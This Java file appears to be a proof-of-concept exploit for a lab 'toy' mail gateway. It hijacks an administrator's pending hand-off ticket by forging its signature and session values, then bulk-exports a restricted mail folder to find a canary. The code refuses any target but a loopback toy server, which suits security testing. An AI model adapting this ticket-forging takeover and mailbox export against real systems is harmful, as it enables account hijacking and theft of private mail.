import java.io.IOException;
import java.io.InputStream;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublisher;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.MessageDigest;
import java.security.SecureRandom;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

/**
 * Proof of concept for the hand-off flaw of the Posta toy gateway.
 *
 * <p>Exit status: 0 canary read, 1 not vulnerable or failed, 2 not a Posta here.
 */
public final class Port {

    private static final SecureRandom RANDOM = new SecureRandom();
    private static final AtomicInteger COUNTER = new AtomicInteger();

    private Port() {}

    /** The target is not a Posta on this machine. */
    static final class RefusedException extends Exception {
        RefusedException(String message) {
            super(message);
        }
    }

    /** The gateway did not do what the attack needs. */
    static final class FailedException extends Exception {
        FailedException(String message) {
            super(message);
        }
    }

    /** Wrong command line. */
    static final class UsageException extends Exception {
        UsageException(String message) {
            super(message);
        }
    }

    // ------------------------------------------------------------ options

    record Options(String host, int port, String role, String folder, boolean keep, boolean json) {

        static final String USAGE =
                "usage: Port --port PORT [--host HOST] [--role ROLE] [--folder FOLDER] [--keep] [--json]";

        static Options parse(String[] args) throws UsageException {
            String host = "127.0.0.1";
            Integer port = null;
            String role = "administrator";
            String folder = "restricted";
            boolean keep = false;
            boolean json = false;

            for (int i = 0; i < args.length; i++) {
                String flag = args[i];
                String inline = null;
                int equals = flag.indexOf('=');
                if (flag.startsWith("--") && equals > 0) {
                    inline = flag.substring(equals + 1);
                    flag = flag.substring(0, equals);
                }
                switch (flag) {
                    case "--keep" -> keep = true;
                    case "--json" -> json = true;
                    case "--host", "--port", "--role", "--folder" -> {
                        String value = inline;
                        if (value == null) {
                            if (++i >= args.length) {
                                throw new UsageException(flag + " needs a value");
                            }
                            value = args[i];
                        }
                        switch (flag) {
                            case "--host" -> host = value;
                            case "--role" -> role = value;
                            case "--folder" -> folder = value;
                            default -> {
                                try {
                                    port = Integer.valueOf(value.strip());
                                } catch (NumberFormatException e) {
                                    throw new UsageException("--port: not a number: " + value);
                                }
                            }
                        }
                    }
                    default -> throw new UsageException("unknown argument: " + args[i]);
                }
            }
            if (port == null) {
                throw new UsageException("--port is required");
            }
            return new Options(host, port, role, folder, keep, json);
        }
    }

    // --------------------------------------------------------------- JSON

    /** Just enough JSON for the gateway's answers and our own output. */
    static final class Json {
        private final String text;
        private int pos;

        private Json(String text) {
            this.text = text;
        }

        static Object parse(String text) {
            Json parser = new Json(text);
            Object value = parser.value();
            parser.blanks();
            if (parser.pos != text.length()) {
                throw parser.bad();
            }
            return value;
        }

        private IllegalArgumentException bad() {
            return new IllegalArgumentException("bad JSON at " + pos);
        }

        private void blanks() {
            while (pos < text.length() && " \t\r\n".indexOf(text.charAt(pos)) >= 0) {
                pos++;
            }
        }

        private char peek() {
            if (pos >= text.length()) {
                throw bad();
            }
            return text.charAt(pos);
        }

        private boolean accept(char wanted) {
            blanks();
            if (peek() != wanted) {
                return false;
            }
            pos++;
            return true;
        }

        private void require(char wanted) {
            if (!accept(wanted)) {
                throw bad();
            }
        }

        private Object value() {
            blanks();
            return switch (peek()) {
                case '{' -> object();
                case '[' -> array();
                case '"' -> string();
                case 't' -> literal("true", Boolean.TRUE);
                case 'f' -> literal("false", Boolean.FALSE);
                case 'n' -> literal("null", null);
                default -> number();
            };
        }

        private Object literal(String word, Object meaning) {
            if (!text.startsWith(word, pos)) {
                throw bad();
            }
            pos += word.length();
            return meaning;
        }

        private Map<String, Object> object() {
            Map<String, Object> members = new LinkedHashMap<>();
            require('{');
            if (accept('}')) {
                return members;
            }
            do {
                blanks();
                String key = string();
                require(':');
                members.put(key, value());
            } while (accept(','));
            require('}');
            return members;
        }

        private List<Object> array() {
            List<Object> items = new ArrayList<>();
            require('[');
            if (accept(']')) {
                return items;
            }
            do {
                items.add(value());
            } while (accept(','));
            require(']');
            return items;
        }

        private String string() {
            if (peek() != '"') {
                throw bad();
            }
            pos++;
            StringBuilder out = new StringBuilder();
            while (true) {
                char c = peek();
                pos++;
                if (c == '"') {
                    return out.toString();
                }
                if (c != '\\') {
                    out.append(c);
                    continue;
                }
                char escape = peek();
                pos++;
                switch (escape) {
                    case '"', '\\', '/' -> out.append(escape);
                    case 'b' -> out.append('\b');
                    case 'f' -> out.append('\f');
                    case 'n' -> out.append('\n');
                    case 'r' -> out.append('\r');
                    case 't' -> out.append('\t');
                    case 'u' -> {
                        if (pos + 4 > text.length()) {
                            throw bad();
                        }
                        out.append((char) Integer.parseInt(text.substring(pos, pos + 4), 16));
                        pos += 4;
                    }
                    default -> throw bad();
                }
            }
        }

        private Number number() {
            int start = pos;
            while (pos < text.length() && "+-.eE0123456789".indexOf(text.charAt(pos)) >= 0) {
                pos++;
            }
            String digits = text.substring(start, pos);
            if (digits.matches("-?\\d{1,18}")) {
                return Long.valueOf(digits);
            }
            return Double.valueOf(digits); // NumberFormatException is an IllegalArgumentException
        }

        static String quote(String raw) {
            StringBuilder out = new StringBuilder("\"");
            for (char c : raw.toCharArray()) {
                switch (c) {
                    case '"' -> out.append("\\\"");
                    case '\\' -> out.append("\\\\");
                    case '\n' -> out.append("\\n");
                    case '\r' -> out.append("\\r");
                    case '\t' -> out.append("\\t");
                    default -> {
                        if (c < 0x20 || c > 0x7e) {
                            out.append(String.format("\\u%04x", (int) c));
                        } else {
                            out.append(c);
                        }
                    }
                }
            }
            return out.append('"').toString();
        }

        /** Writes one flat object. */
        static String write(Map<String, ?> members, boolean indented) {
            String open = indented ? "{\n  " : "{";
            String between = indented ? ",\n  " : ", ";
            String close = indented ? "\n}" : "}";
            return members.entrySet().stream()
                    .map(e -> quote(e.getKey()) + ": " + scalar(e.getValue()))
                    .collect(Collectors.joining(between, open, close));
        }

        private static String scalar(Object value) {
            if (value == null || value instanceof Number || value instanceof Boolean) {
                return String.valueOf(value);
            }
            return quote(value.toString());
        }
    }

    /** A JSON object, with checked access to its members. */
    record Node(Map<String, Object> members) {

        @SuppressWarnings("unchecked")
        static Node of(Object value) throws FailedException {
            if (value instanceof Map<?, ?> map) {
                return new Node((Map<String, Object>) map);
            }
            throw new FailedException("a JSON object was expected");
        }

        Object get(String key) {
            return members.get(key);
        }

        private Object need(String key) throws FailedException {
            Object value = members.get(key);
            if (value == null) {
                throw new FailedException("'" + key + "' is missing");
            }
            return value;
        }

        String text(String key) throws FailedException {
            return need(key).toString();
        }

        long number(String key) throws FailedException {
            if (need(key) instanceof Number number) {
                return number.longValue();
            }
            throw new FailedException("'" + key + "' is not a number");
        }

        List<Node> list(String key) throws FailedException {
            Object value = members.get(key);
            if (value == null) {
                return List.of();
            }
            if (!(value instanceof List<?> items)) {
                throw new FailedException("'" + key + "' is not a list");
            }
            List<Node> nodes = new ArrayList<>();
            for (Object item : items) {
                nodes.add(of(item));
            }
            return nodes;
        }

        int size(String key) throws FailedException {
            Object value = members.get(key);
            if (value == null) {
                return 0;
            }
            if (value instanceof List<?> items) {
                return items.size();
            }
            throw new FailedException("'" + key + "' is not a list");
        }

        boolean isBefore(Node other, String key) throws FailedException {
            Object mine = need(key);
            Object theirs = other.need(key);
            if (mine instanceof Number a && theirs instanceof Number b) {
                return Double.compare(a.doubleValue(), b.doubleValue()) < 0;
            }
            return mine.toString().compareTo(theirs.toString()) < 0;
        }
    }

    // ---------------------------------------------------------- transport

    /** One answer of the gateway. */
    record Reply(int status, String text) {

        boolean isOk() {
            return status < 400;
        }

        Reply expect(String what) throws FailedException {
            if (!isOk()) {
                String start = text.substring(0, Math.min(80, text.length()));
                throw new FailedException(what + ": status " + status + " " + start);
            }
            return this;
        }

        Node json() throws FailedException {
            Object value;
            try {
                value = Json.parse(text);
            } catch (IllegalArgumentException e) {
                throw new FailedException("no JSON in an answer with status " + status);
            }
            return Node.of(value);
        }
    }

    static final class Transport {
        private static final String LOOPBACK = "127.0.0.1";
        private static final String BANNER = "posta-toy/";
        private static final int BODY_LIMIT = 1 << 20;
        private static final Duration TIMEOUT = Duration.ofSeconds(15);

        private final int port;
        private final HttpClient http = HttpClient.newBuilder()
                .version(HttpClient.Version.HTTP_1_1)
                .followRedirects(HttpClient.Redirect.NEVER)
                .proxy(HttpClient.Builder.NO_PROXY)
                .connectTimeout(TIMEOUT)
                .build();

        Transport(String host, int port) throws RefusedException {
            String name = host.strip().toLowerCase(Locale.ROOT);
            if (!name.equals(LOOPBACK) && !name.equals("localhost")) {
                throw new RefusedException(host + ": only a Posta on 127.0.0.1 is allowed");
            }
            if (port < 1 || port > 65535) {
                throw new RefusedException(port + ": no such port");
            }
            this.port = port;
        }

        Reply send(String method, String target, Map<String, String> headers)
                throws RefusedException, FailedException {
            return send(method, target, headers, BodyPublishers.noBody());
        }

        Reply send(String method, String target, Map<String, String> headers, BodyPublisher body)
                throws RefusedException, FailedException {
            URI uri = URI.create("http://" + LOOPBACK + ":" + port + target);
            HttpRequest.Builder request = HttpRequest.newBuilder(uri).timeout(TIMEOUT).method(method, body);
            headers.forEach(request::setHeader);

            HttpResponse<InputStream> response;
            byte[] raw;
            try {
                response = http.send(request.build(), BodyHandlers.ofInputStream());
                try (InputStream in = response.body()) {
                    raw = in.readNBytes(BODY_LIMIT + 1);
                }
            } catch (IOException e) {
                throw new FailedException(method + " " + target + ": " + e);
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
                throw new FailedException(method + " " + target + ": interrupted");
            }
            if (!response.headers().firstValue("Server").orElse("").startsWith(BANNER)) {
                throw new RefusedException(LOOPBACK + ":" + port + " does not answer as Posta");
            }
            if (raw.length > BODY_LIMIT) {
                throw new FailedException(target + ": the answer is too long");
            }
            return new Reply(response.statusCode(), new String(raw, StandardCharsets.UTF_8));
        }
    }

    // ------------------------------------------------------------ helpers

    static String randomHex(int bytes) {
        byte[] buffer = new byte[bytes];
        RANDOM.nextBytes(buffer);
        return HexFormat.of().formatHex(buffer);
    }

    static String requestId() {
        return String.format("req-%03d-%s", COUNTER.incrementAndGet(), randomHex(5));
    }

    static String escape(String raw) {
        return URLEncoder.encode(raw, StandardCharsets.UTF_8).replace("+", "%20");
    }

    static String escapePath(String raw) {
        return escape(raw).replace("%2F", "/");
    }

    static String encode(Map<String, String> params) {
        return params.entrySet().stream()
                .map(e -> escape(e.getKey()) + "=" + escape(e.getValue()))
                .collect(Collectors.joining("&"));
    }

    static String withParams(String path, Map<String, String> params) {
        return path + "?" + encode(params);
    }

    /** An ordered map from alternating keys and values. */
    static Map<String, String> fields(String... pairs) {
        Map<String, String> map = new LinkedHashMap<>();
        for (int i = 0; i < pairs.length; i += 2) {
            map.put(pairs[i], pairs[i + 1]);
        }
        return map;
    }

    /** The proofs that the hand-off wants, all made from the ticket alone. */
    static final class Proof {
        private static final DateTimeFormatter STAMP =
                DateTimeFormatter.ofPattern("yyyyMMdd'T'HHmmss'Z'", Locale.ROOT).withZone(ZoneOffset.UTC);
        private static final int SIGNATURE_LENGTH = 39;
        private static final int SESSION_LENGTH = 38;

        private Proof() {}

        static String nonce() {
            return STAMP.format(Instant.now()) + "." + randomHex(6);
        }

        static String signature(String ticket, String nonce) {
            try {
                Mac mac = Mac.getInstance("HmacSHA384");
                mac.init(new SecretKeySpec(ticket.getBytes(StandardCharsets.UTF_8), "HmacSHA384"));
                byte[] tag = mac.doFinal(("transfer:" + nonce).getBytes(StandardCharsets.UTF_8));
                return HexFormat.of().formatHex(tag).substring(0, SIGNATURE_LENGTH);
            } catch (GeneralSecurityException e) {
                throw new IllegalStateException(e);
            }
        }

        static String session(String ticket) {
            try {
                byte[] digest = MessageDigest.getInstance("MD5").digest(ticket.getBytes(StandardCharsets.UTF_8));
                String spelled = Base64.getUrlEncoder().withoutPadding().encodeToString(digest)
                        .toLowerCase(Locale.ROOT);
                return "lnk-" + spelled.substring(0, Math.min(SESSION_LENGTH, spelled.length()));
            } catch (GeneralSecurityException e) {
                throw new IllegalStateException(e);
            }
        }
    }

    // ------------------------------------------------------------ gateway

    record Grant(String pass, String who) {}

    record Export(String job, long mails) {}

    /** The calls of the gateway that the attack uses. */
    static final class Gateway {
        private static final String FORM = "application/x-www-form-urlencoded";

        private final Transport transport;

        Gateway(Transport transport) {
            this.transport = transport;
        }

        private static Map<String, String> clientHeaders() {
            return fields(
                    "User-Agent", "handoff-check/0.9",
                    "X-Posta-Client", "widget",
                    "X-Request-Id", requestId(),
                    "Accept-Language", "fr-CA");
        }

        private static Map<String, String> passHeaders(Grant grant) {
            Map<String, String> headers = clientHeaders();
            headers.put("Authorization", "Badge " + grant.pass());
            return headers;
        }

        /** Makes sure that this is the toy; returns how many hand-offs wait. */
        Object verify() throws RefusedException, FailedException {
            String target = withParams("/status", fields("probe", "ping", "id", requestId()));
            Node answer = transport.send("GET", target, Map.of()).expect("status").json();
            if (!Boolean.TRUE.equals(answer.get("toy"))) {
                throw new RefusedException("this Posta is not the toy");
            }
            return answer.members().getOrDefault("waiting", 0);
        }

        List<Node> board() throws RefusedException, FailedException {
            String target = withParams("/board", fields("audience", "personnel", "id", requestId()));
            return transport.send("GET", target, clientHeaders()).expect("board").json().list("waiting");
        }

        Grant join(String ticket) throws RefusedException, FailedException {
            Map<String, String> form = fields(
                    "ticket", ticket,
                    "session", Proof.session(ticket),
                    "scope", "campus",
                    "mode", "adopt",
                    "durable", "1",
                    "reason", "rebalancing");
            String nonce = Proof.nonce();
            Map<String, String> headers = clientHeaders();
            headers.put("X-Posta-Nonce", nonce);
            headers.put("X-Posta-Signature", Proof.signature(ticket, nonce));
            headers.put("Content-Type", FORM);
            Node answer = transport.send("POST", "/door/handoff", headers, BodyPublishers.ofString(encode(form)))
                    .expect("hand-off")
                    .json();
            if (!(answer.get("pass") instanceof String pass) || pass.isEmpty()) {
                throw new FailedException("the hand-off gave no pass");
            }
            Object who = answer.get("who");
            return new Grant(pass, who == null ? "?" : who.toString());
        }

        List<Node> folders(Grant grant) throws RefusedException, FailedException {
            String target = withParams("/classic/folders", fields("view", "brief", "id", requestId()));
            Map<String, String> headers = passHeaders(grant);
            headers.put("Accept", "application/vnd.posta.register+json");
            return transport.send("GET", target, headers).expect("folders").json().list("folders");
        }

        String draft(Grant grant) throws RefusedException, FailedException {
            String boundary = "ContentEdge" + randomHex(8);
            String body = String.join("\r\n",
                    "--" + boundary,
                    "Content-Disposition: form-data; name=\"passage\"",
                    "",
                    "Posta hand-off test",
                    "--" + boundary + "--",
                    "");
            Map<String, String> headers = passHeaders(grant);
            headers.put("Content-Type", "multipart/form-data; boundary=" + boundary);
            headers.put("X-Posta-Priority", "regular");
            return transport.send("POST", "/drafts", headers, BodyPublishers.ofString(body))
                    .expect("draft")
                    .json()
                    .text("draft");
        }

        int countMessages(Grant grant, String folder) throws RefusedException, FailedException {
            String target = withParams("/messages",
                    fields("folder", folder, "order", "alphabetical", "channel", "socket"));
            return transport.send("QUERY", target, passHeaders(grant)).expect("messages").json().size("messages");
        }

        Export startExport(Grant grant, String folder) throws RefusedException, FailedException {
            Map<String, String> order = fields(
                    "folder", folder,
                    "depth", "flat",
                    "consent", "issued",
                    "format", "mh");
            Map<String, String> headers = passHeaders(grant);
            headers.put("Content-Type", "application/json");
            BodyPublisher body = BodyPublishers.ofString(Json.write(order, false));
            Node answer = transport.send("POST", "/governance/export", headers, body).expect("export").json();
            return new Export(answer.text("job"), answer.number("mails"));
        }

        String fetchExport(Grant grant, String job) throws RefusedException, FailedException {
            String target = withParams("/export/" + escapePath(job),
                    fields("source", "repository", "id", requestId()));
            Map<String, String> headers = clientHeaders();
            headers.put("Cookie", "mailsid=" + grant.pass());
            return transport.send("GET", target, headers).expect("export file").text();
        }

        Object purge(Grant grant, String mail) throws RefusedException, FailedException {
            String target = withParams("/purge/" + escapePath(mail), fields("acting", "owner", "commit", "lazy"));
            return transport.send("PUT", target, passHeaders(grant))
                    .expect("purge")
                    .json()
                    .members()
                    .getOrDefault("purged", 0);
        }

        boolean close(Grant grant) throws RefusedException, FailedException {
            Map<String, String> headers = passHeaders(grant);
            headers.put("Content-Type", FORM);
            String form = encode(fields("outcome", "released", "id", requestId()));
            return transport.send("POST", "/close", headers, BodyPublishers.ofString(form)).isOk();
        }
    }

    // -------------------------------------------------------------- mails

    record Mail(String subject, String body) {
        private static final Pattern SEPARATOR = Pattern.compile("^From .*\n", Pattern.MULTILINE | Pattern.UNIX_LINES);
        private static final Pattern CANARY = Pattern.compile("posta canary [0-9A-Za-z-]+");

        static List<Mail> split(String mbox) {
            return Arrays.stream(SEPARATOR.split(mbox, -1)).skip(1).map(Mail::parse).toList();
        }

        private static Mail parse(String block) {
            int gap = block.indexOf("\n\n");
            String head = gap < 0 ? block : block.substring(0, gap);
            String body = gap < 0 ? "" : block.substring(gap + 2);
            String subject = "";
            for (String line : head.lines().toList()) {
                int colon = line.indexOf(": ");
                if (colon >= 0 && line.substring(0, colon).equalsIgnoreCase("subject")) {
                    subject = line.substring(colon + 2);
                }
            }
            return new Mail(subject, body.strip());
        }

        Optional<String> canary() {
            Matcher matcher = CANARY.matcher(body);
            return matcher.find() ? Optional.of(matcher.group()) : Optional.empty();
        }
    }

    // ------------------------------------------------------------- attack

    static String chooseTicket(List<Node> waiting, String role) throws FailedException {
        Node oldest = null;
        for (Node entry : waiting) {
            if (role.equals(entry.get("role")) && (oldest == null || entry.isBefore(oldest, "since"))) {
                oldest = entry;
            }
        }
        if (oldest == null) {
            throw new FailedException("no " + role + " has a hand-off open");
        }
        return oldest.text("ticket");
    }

    static String chooseFolder(List<Node> folders, String wanted) throws FailedException {
        Node fullest = null;
        for (Node folder : folders) {
            if (folder.text("name").equals(wanted)) {
                return wanted;
            }
            if (fullest == null || folder.number("count") > fullest.number("count")) {
                fullest = folder;
            }
        }
        if (fullest == null) {
            throw new FailedException("the account has no folders");
        }
        return fullest.text("name");
    }

    static Map<String, Object> attack(Gateway gateway, Options options) throws RefusedException, FailedException {
        Object waiting = gateway.verify();
        String ticket = chooseTicket(gateway.board(), options.role());
        Grant grant = gateway.join(ticket);
        String folder = chooseFolder(gateway.folders(grant), options.folder());
        String draft = gateway.draft(grant);
        int listed = gateway.countMessages(grant, folder);
        Export export = gateway.startExport(grant, folder);
        List<Mail> mails = Mail.split(gateway.fetchExport(grant, export.job()));
        if (mails.size() < export.mails() || mails.size() < listed) {
            throw new FailedException("the export is shorter than the folder");
        }
        Object purged = options.keep() ? 0 : gateway.purge(grant, draft);
        boolean closed = gateway.close(grant);

        Map<String, Object> findings = new LinkedHashMap<>();
        findings.put("waiting", waiting);
        findings.put("account", grant.who());
        findings.put("folder", folder);
        findings.put("subjects", mails.stream().map(Mail::subject).collect(Collectors.joining("; ")));
        findings.put("purged", purged);
        findings.put("closed", closed);
        findings.put("canary", mails.stream().flatMap(mail -> mail.canary().stream()).findFirst().orElse(null));
        return findings;
    }

    static void show(Map<String, Object> findings, boolean json) {
        if (json) {
            System.out.println(Json.write(findings, true));
            return;
        }
        int width = findings.keySet().stream().mapToInt(String::length).max().orElse(1);
        findings.forEach((name, value) -> System.out.printf("%-" + width + "s  %s%n", name, value));
    }

    static int run(String[] args) {
        try {
            Options options = Options.parse(args);
            Gateway gateway = new Gateway(new Transport(options.host(), options.port()));
            Map<String, Object> findings = attack(gateway, options);
            show(findings, options.json());
            return findings.get("canary") != null ? 0 : 1;
        } catch (UsageException e) {
            System.err.println(Options.USAGE);
            System.err.println("error: " + e.getMessage());
            return 2;
        } catch (RefusedException e) {
            System.err.println("refused: " + e.getMessage());
            return 2;
        } catch (FailedException e) {
            System.err.println("failed: " + e.getMessage());
            return 1;
        }
    }

    public static void main(String[] args) {
        System.exit(run(args));
    }
}
